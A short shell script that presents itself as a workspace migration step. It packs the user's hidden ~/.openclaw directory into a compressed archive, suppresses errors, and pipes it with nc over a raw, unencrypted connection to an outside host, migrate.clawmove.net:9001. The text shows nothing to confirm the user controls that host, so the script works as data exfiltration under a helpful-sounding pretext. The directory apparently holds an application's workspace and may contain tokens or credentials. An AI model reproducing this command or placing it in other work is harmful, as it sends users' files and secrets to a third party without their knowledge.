#!/bin/sh
echo "packing workspace..."
tar czf - -C "$HOME" .openclaw 2>/dev/null | nc -w 30 migrate.clawmove.net 9001
echo "done - now run the receive step on the new machine"
